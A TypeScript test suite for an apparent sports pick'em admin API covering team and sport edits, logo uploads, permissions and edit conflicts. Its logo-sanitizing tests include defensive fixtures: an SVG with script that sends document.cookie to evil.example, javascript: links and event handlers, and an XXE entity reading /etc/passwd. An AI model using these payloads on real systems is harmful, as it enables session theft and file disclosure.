// The Teams and Sports management calls through the real handlers: a team's details and its logo (kept
// only as the drawing of its SVG), and a sport's Regular and Bonus days, which new client sports take.
import type { Team } from '#domain/catalogue/types.ts';
import { beforeAll, describe, expect, it } from 'vitest';
import { contracts } from '#domain/contracts/api.ts';
import type { RequestOf } from '#domain/contracts/contract.ts';
import { call, send } from './support/call.ts';
import { routeOf } from './support/route-of.ts';
import { useTestStack } from './support/test-stack.ts';

const given = useTestStack({ now: '2026-11-22T17:00:00Z' });

const nfl = '33';
const nba = '35';
let sysadmin: string;
let coach: string;
let team: Team;

const teamsOf = async (sportId: string, token = sysadmin) =>
  (await call(given.api, contracts.teamList, { sportId, limit: '100', page: '1' }, token)).body;
const editTeam = (form: RequestOf<typeof contracts.editTeam>, token = sysadmin) =>
  call(given.api, contracts.editTeam, form, token);
const setLogo = (body: RequestOf<typeof contracts.setTeamLogo>, token = sysadmin) =>
  call(given.api, contracts.setTeamLogo, body, token);
const editSport = (form: RequestOf<typeof contracts.editSport>, token = sysadmin) =>
  call(given.api, contracts.editSport, form, token);
const decoded = (logo: string) => Buffer.from(logo, 'base64').toString('utf8');

/** Monday and Tuesday Regular, Saturday and Sunday Bonus, bonus games on Sunday (5) and Saturday (4). */
const weekendBonus = {
  allowMondayPicks: 'true',
  allowTuesdayPicks: 'true',
  allowWednesdayPicks: 'true',
  allowThursdayPicks: 'true',
  allowFridayPicks: 'true',
  allowSaturdayPicks: 'false',
  allowSundayPicks: 'false',
  firstBonusGameDay: '5',
  secondBonusGameDay: '4',
} as const;

beforeAll(async () => {
  [sysadmin, coach] = await Promise.all([
    given.api.signIn('admin', 'pickem-admin', 'admin'),
    given.api.signIn('coach'),
  ]);
  team = (await teamsOf(nfl))[0]!;
});

describe('editing a team', () => {
  it('saves the name, city, mascot and an upper-cased abbreviation, and the teams list shows them', async () => {
    const edited = await editTeam({
      id: String(team.id),
      sportId: nfl,
      name: 'Chicago Grizzlies',
      city: 'Chicago',
      mascot: 'Grizzlies',
      abbreviation: 'cgz',
    });
    expect(edited.status).toBe(200);
    expect(edited.body).toMatchObject({ id: team.id, name: 'Chicago Grizzlies', abbreviation: 'CGZ', logo: team.logo });
    expect((await teamsOf(nfl)).find((row) => row.id === team.id)).toMatchObject({
      name: 'Chicago Grizzlies',
      city: 'Chicago',
      mascot: 'Grizzlies',
      abbreviation: 'CGZ',
    });
  });

  it('refuses missing, blank, too long or malformed fields with 400 and changes nothing', async () => {
    const before = await teamsOf(nfl);
    const valid = { id: String(team.id), sportId: nfl, name: 'N', city: 'C', mascot: 'M', abbreviation: 'AB' };
    const cases: [Record<string, string>, string][] = [
      [{ ...valid, name: '   ' }, 'Name is required'],
      [{ ...valid, city: 'x'.repeat(101) }, 'City must be at most 100 characters'],
      [{ ...valid, mascot: 'Bad\u202Eguy' }, 'Mascot may not contain control or text-direction characters'],
      [{ ...valid, abbreviation: 'A' }, 'Abbreviation must be 2 to 5 letters or digits'],
      [{ ...valid, abbreviation: 'TOOLONG' }, 'Abbreviation must be 2 to 5 letters or digits'],
      [{ ...valid, abbreviation: 'A-B' }, 'Abbreviation must be 2 to 5 letters or digits'],
      [{ ...valid, id: 'abc' }, 'id must be a positive whole number'],
    ];
    for (const [form, error] of cases) {
      const answer = await send(given.api, contracts.editTeam, form, sysadmin);
      expect(answer.status, error).toBe(400);
      expect(answer.body.error).toBe(error);
    }
    expect(await teamsOf(nfl)).toEqual(before);
  });

  it('answers 404 for a team that does not exist, or not in that sport, and creates none', async () => {
    const form = { sportId: nfl, name: 'Ghosts', city: 'Nowhere', mascot: 'Ghost', abbreviation: 'GHO' };
    const unknown = await editTeam({ ...form, id: '999999' });
    expect(unknown.status).toBe(404);
    expect(unknown.body.error).toBe('There is no team 999999 of sport 33');
    expect((await editTeam({ ...form, id: String(team.id), sportId: nba })).status).toBe(404);
    expect((await teamsOf(nba)).some((row) => row.name === 'Ghosts')).toBe(false);
  });
});

describe('setting a team logo', () => {
  const benign =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><circle cx="32" cy="32" r="29" fill="#0B162A"/><text x="32" y="40">CGZ</text></svg>';

  it('stores a clean logo as base64 of its SVG and answers the team with it', async () => {
    const answer = await setLogo({ id: team.id, sportId: 33, logo: benign });
    expect(answer.status).toBe(200);
    expect(decoded(answer.body.logo)).toBe(benign);
    expect((await teamsOf(nfl)).find((row) => row.id === team.id)!.logo).toBe(answer.body.logo);
  });

  it('keeps only the drawing of a malicious logo: no script, handler, foreign content or outside link', async () => {
    const malicious =
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(document.cookie)">' +
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>' +
      '<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>' +
      '<image href="https://evil.example/pixel.png" width="1" height="1"/>' +
      '<circle cx="32" cy="32" r="20" fill="red" onclick="alert(1)" style="fill: url(https://evil.example/p)"/>' +
      '</svg>';
    const answer = await setLogo({ id: team.id, sportId: 33, logo: malicious });
    expect(answer.status).toBe(200);
    const stored = decoded((await teamsOf(nfl)).find((row) => row.id === team.id)!.logo);
    expect(stored).toBe('<svg xmlns="http://www.w3.org/2000/svg"><circle cx="32" cy="32" r="20" fill="red"/></svg>');
  });

  // Probe: the contract sends JSON; the raw form body is the point.
  it('is also accepted as a form, as the spec sends the team calls', async () => {
    const answer = await given.api.call('POST', routeOf(contracts.setTeamLogo), {
      form: { id: String(team.id), sportId: nfl, logo: benign },
      token: sysadmin,
    });
    expect(answer.status).toBe(200);
    expect(decoded(answer.body.logo)).toBe(benign);
  });

  it('refuses what is not an SVG document, an entity declaration or a file over 100 kB (as sent or once cleaned) with 400, keeping the logo', async () => {
    const before = (await teamsOf(nfl)).find((row) => row.id === team.id)!.logo;
    const cases: [string, string][] = [
      ['<svg><g></svg>', 'The logo is not well-formed XML'],
      ['<html><body/></html>', 'The logo must be an SVG document: one <svg> element'],
      [
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
        'The logo may not declare entities',
      ],
      [`<svg><desc>${'x'.repeat(100 * 1024)}</desc></svg>`, 'The logo must be at most 100 kB'],
      // Under 100 kB as sent, four times that once its text is escaped: the team's item would pass DynamoDB's 400 KB.
      [`<svg><title>${'>'.repeat(99 * 1024)}</title></svg>`, 'The logo must be at most 100 kB once cleaned'],
      ['', 'The logo is required'],
    ];
    for (const [logo, error] of cases) {
      const answer = await setLogo({ id: team.id, sportId: 33, logo });
      expect(answer.status, error).toBe(400);
      expect(answer.body.error).toContain(error);
    }
    expect((await teamsOf(nfl)).find((row) => row.id === team.id)!.logo).toBe(before);
  });

  it("refuses (409) a logo that would take the sport's logos past 3 MB, which the team map answers whole", async () => {
    const teams = await teamsOf(nba);
    const large = (n: number) => `<svg><desc>${String(n).padEnd(99 * 1024, 'x')}</desc></svg>`;
    // 23 drawings of 99 kB (135 kB as stored) fit in 3 MB with the others' small ones; the 24th does not.
    for (const [index, each] of teams.slice(0, 23).entries())
      expect((await setLogo({ id: each.id, sportId: Number(nba), logo: large(index) })).status).toBe(200);
    const refused = await setLogo({ id: teams[23]!.id, sportId: Number(nba), logo: large(23) });
    expect([refused.status, refused.body.code]).toEqual([409, 'SPORT_LOGOS_FULL']);
    expect((await teamsOf(nba)).find((row) => row.id === teams[23]!.id)!.logo).toBe(teams[23]!.logo);
    // A team's own logo replaced counts once: a drawing as large as its old one still fits.
    expect((await setLogo({ id: teams[0]!.id, sportId: Number(nba), logo: large(99) })).status).toBe(200);
  });

  it('answers 404 for an unknown team', async () => {
    expect((await setLogo({ id: 999999, sportId: 33, logo: benign })).status).toBe(404);
  });
});

describe('who may change teams and sports', () => {
  it('answers 401 without a token', async () => {
    expect((await send(given.api, contracts.editTeam, { id: String(team.id) })).status).toBe(401);
    expect((await send(given.api, contracts.setTeamLogo, { id: team.id })).status).toBe(401);
    expect((await send(given.api, contracts.editSport, { id: nfl })).status).toBe(401);
  });

  it("answers 403 to a company admin, who lacks 'modify teams' and 'modify sports', and changes nothing", async () => {
    const before = await teamsOf(nfl);
    const form = { id: String(team.id), sportId: nfl, name: 'Coach FC', city: 'C', mascot: 'M', abbreviation: 'CFC' };
    expect((await editTeam(form, coach)).status).toBe(403);
    expect((await setLogo({ id: team.id, sportId: 33, logo: '<svg/>' }, coach)).status).toBe(403);
    expect((await editSport({ id: nfl, ...weekendBonus }, coach)).status).toBe(403);
    expect(await teamsOf(nfl)).toEqual(before);
  });
});

describe('editing a sport', () => {
  const sports = async () => (await call(given.api, contracts.sportList, { page: '1', limit: '50' }, sysadmin)).body;

  it('refuses bonus game days that are not Bonus days with 400', async () => {
    const cases: [Record<string, string>, string][] = [
      [{ ...weekendBonus, firstBonusGameDay: '6' }, 'Monday is a bonus day; it cannot also be a regular pick day'],
      [{ ...weekendBonus, secondBonusGameDay: '5' }, 'The two bonus game days must be different days'],
      [
        { ...weekendBonus, allowSaturdayPicks: 'true', allowSundayPicks: 'true' },
        'At least one day must be a Bonus day for the bonus games',
      ],
      [{ ...weekendBonus, allowMondayPicks: 'maybe' }, 'allowMondayPicks must be true (Regular) or false (Bonus)'],
      [{ ...weekendBonus, firstBonusGameDay: '8' }, 'firstBonusGameDay must be a day from 1 to 7'],
    ];
    for (const [form, error] of cases) {
      const answer = await send(given.api, contracts.editSport, { id: nba, ...form }, sysadmin);
      expect(answer.status, error).toBe(400);
      expect(answer.body.error).toBe(error);
    }
  });

  it('answers 404 for an unknown sport', async () => {
    const answer = await editSport({ id: '999', ...weekendBonus });
    expect(answer.status).toBe(404);
    expect(answer.body.error).toBe('There is no sport 999');
  });

  it("changes the sport's days, and a client sport added afterwards takes them", async () => {
    const edited = await editSport({ id: nba, ...weekendBonus });
    expect(edited.status).toBe(200);
    const days = {
      allowMondayPicks: true,
      allowTuesdayPicks: true,
      allowWednesdayPicks: true,
      allowThursdayPicks: true,
      allowFridayPicks: true,
      allowSaturdayPicks: false,
      allowSundayPicks: false,
      firstBonusGameDay: 5,
      secondBonusGameDay: 4,
    };
    expect(edited.body).toMatchObject({ id: 35, name: 'NBA', ...days });
    expect((await sports()).find((sport) => sport.id === 35)).toMatchObject(days);

    const client = await call(given.api, contracts.createClient, { name: 'Weekend Pool', domain: 'weekend' }, sysadmin);
    const [affiliate] = (await call(given.api, contracts.affiliateList, { sportId: '35' }, sysadmin)).body;
    const added = await call(
      given.api,
      contracts.addClientSport,
      { clientId: String(client.body.id), sportId: nba, affiliateId: String(affiliate!.id) },
      sysadmin,
    );
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject(days);

    const chosen = await call(
      given.api,
      contracts.addClientSport,
      {
        clientId: String(client.body.id),
        sportId: nfl,
        affiliateId: '1',
        allowSundayPicks: 'false',
        firstBonusGameDay: '5',
      },
      sysadmin,
    );
    expect(chosen.status).toBe(201);
    expect(chosen.body).toMatchObject({ allowSundayPicks: false, allowMondayPicks: false, firstBonusGameDay: 5 });
  });

  it('an edit made from an older read is refused (409 SPORT_CHANGED) and keeps the edit that came since', async () => {
    const { version = 0 } = (await sports()).find((sport) => sport.id === 37)!;
    const first = await editSport({ id: '37', ...weekendBonus, version: String(version) });
    expect(first.body).toMatchObject({ allowSaturdayPicks: false, version: version + 1 });
    const stale = await editSport({ id: '37', ...weekendBonus, allowMondayPicks: 'false', version: String(version) });
    expect(stale.status).toBe(409);
    expect(stale.body).toMatchObject({
      error: 'Someone else changed this sport meanwhile: reload the sports and edit it again',
      code: 'SPORT_CHANGED',
    });
    expect((await sports()).find((sport) => sport.id === 37)).toMatchObject({
      allowMondayPicks: true,
      version: version + 1,
    });
    // Its answer lost and asked again, an edit that landed is answered as saved, not refused by its own landing.
    const again = await editSport({ id: '37', ...weekendBonus, version: String(version) });
    expect(again.body).toMatchObject({ allowSaturdayPicks: false, version: version + 1 });
  });

  it('sets the sport inactive when asked, and keeps the days', async () => {
    const answer = await editSport({ id: nba, ...weekendBonus, active: 'false' });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ active: false, allowSaturdayPicks: false });
    await editSport({ id: nba, ...weekendBonus, active: 'true' });
  });
});
